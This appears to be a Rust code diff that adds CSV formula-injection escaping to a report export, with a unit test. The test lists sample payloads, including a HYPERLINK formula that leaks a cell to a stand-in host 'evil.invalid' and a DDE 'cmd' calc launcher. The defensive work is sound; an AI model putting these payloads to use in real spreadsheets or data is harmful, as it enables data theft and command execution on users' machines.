@@ -402,7 +402,10 @@ impl Report {
 
     #[cfg(feature = "reports")]
     /// The clients as CSV: a header row with the JSON report's field names, then one row per
-    /// client (an absent value is an empty cell).
+    /// client (an absent value is an empty cell). A text cell that a spreadsheet would take
+    /// for a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return: a peer's
+    /// `error:=HYPERLINK(…)`) gets a leading `'`, as OWASP recommends; numbers are left as
+    /// they are.
     ///
     /// # Examples
     /// ```
@@ -418,7 +421,9 @@ impl Report {
         let mut result = if self.clients.is_empty() {
             w.write_record(CSV_HEADER)
         } else {
-            self.clients.iter().try_for_each(|c| w.serialize(c))
+            self.clients
+                .iter()
+                .try_for_each(|c| w.serialize(csv_safe(c)))
         };
         let bytes = match w.into_inner() {
             Ok(b) => b,
@@ -464,6 +469,41 @@ impl fmt::Display for Report {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.write_str(&self.to_text())
     }
+}
+
+/// `c` with every text cell made safe for a spreadsheet (see [`Report::to_csv`]).
+#[cfg(feature = "reports")]
+fn csv_safe(c: &ClientReport) -> std::borrow::Cow<'_, ClientReport> {
+    let risky = |s: &Option<String>| s.as_deref().is_some_and(is_formula);
+    let texts = [
+        &c.reason,
+        &c.peer,
+        &c.protocol_version,
+        &c.start_time,
+        &c.end_time,
+    ];
+    if !texts.into_iter().any(risky) {
+        return std::borrow::Cow::Borrowed(c);
+    }
+    let mut c = c.clone();
+    for s in [
+        &mut c.reason,
+        &mut c.peer,
+        &mut c.protocol_version,
+        &mut c.start_time,
+        &mut c.end_time,
+    ] {
+        if let Some(t) = s.as_mut().filter(|t| is_formula(t)) {
+            t.insert(0, '\'');
+        }
+    }
+    std::borrow::Cow::Owned(c)
+}
+
+/// Whether a spreadsheet would read a text cell as a formula (OWASP's CSV injection list).
+#[cfg(feature = "reports")]
+fn is_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
 }
 
 /// The seed printed times as `%Y-%m-%d_%H:%M:%S`; the JSON keeps RFC 3339.
@@ -686,6 +726,47 @@ mod tests {
         r.clients.clear();
         assert_eq!(r.to_csv().lines().count(), 1);
         assert!(r.to_csv().starts_with("id,status,"));
+    }
+
+    #[test]
+    fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
+        let mut r = report();
+        let formulas = [
+            "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,1)",
+            "\t=1",
+            "\r=1",
+        ];
+        r.clients = formulas
+            .iter()
+            .enumerate()
+            .map(|(i, f)| {
+                let mut c = client(100 + i as u32, Status::Failed);
+                c.reason = Some((*f).to_string());
+                c.protocol_version = Some("=1+1".into());
+                c.cpu_avg_pct = -1.5;
+                c
+            })
+            .collect();
+        r.clients.push(client(200, Status::Pass));
+        r.clients[6].reason = Some("no heartbeat for 15.0 s".into());
+        let text = r.to_csv();
+        let mut rd = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
+        for (row, f) in rows.iter().zip(formulas) {
+            assert_eq!(&row[12], format!("'{f}"), "{text}");
+            assert_eq!(&row[14], "'=1+1");
+            assert_eq!(&row[3], "-1.5", "a number stays a number");
+        }
+        assert_eq!(&rows[6][12], "no heartbeat for 15.0 s");
+        assert_eq!(&rows[6][3], "3.0");
+        // The JSON keeps the peer's text exact.
+        assert_eq!(
+            Report::from_json(&r.to_json()).unwrap().clients[0].reason.as_deref(),
+            Some(formulas[0])
+        );
     }
 
     #[test]
